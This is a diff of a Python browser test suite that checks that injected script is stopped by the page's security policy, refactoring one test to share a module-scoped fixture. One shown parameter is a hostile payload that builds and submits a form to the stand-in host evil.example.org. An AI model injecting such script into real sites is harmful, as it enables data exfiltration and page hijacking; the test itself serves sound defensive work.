@@ -119,19 +119,26 @@ def test_a_hostile_store_name_is_text(browser, server):
         "const f = document.createElement('form'); f.action = 'https://evil.example.org'; document.body.append(f); f.submit()",
     ],
 )
-def test_what_would_get_in_nevertheless_is_stopped_by_the_browser(browser, server, attack):
-    with opened(browser, server) as seen:
-        seen.page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ window.stopped = String(error); }} }}")
-        seen.page.wait_for_timeout(300)
-        assert seen.page.evaluate("window.hit ?? null") is None
-        assert seen.blocked or seen.page.evaluate("window.stopped ?? null")
-        assert seen.page.url.startswith(server.url)
+def test_what_would_get_in_nevertheless_is_stopped_by_the_browser(attacked, server, attack):
+    page, blocked = attacked.page, len(attacked.blocked)
+    stopped = page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ return String(error); }} }}")
+    page.wait_for_timeout(300)
+    assert page.evaluate("window.hit ?? null") is None
+    assert stopped or len(attacked.blocked) > blocked
+    assert page.url.startswith(server.url)
 
 
 def inert(seen):
     """Nothing of what was shown has run, was fetched, or was stopped only by the policy."""
     assert seen.page.evaluate("window.hit ?? null") is None
     seen.is_clean()
+
+
+@pytest.fixture(scope="module")
+def attacked(browser, server):
+    """A page for all attacks: none that is stopped changes it."""
+    with opened(browser, server) as seen:
+        yield seen
 
 
 @pytest.fixture(scope="module")
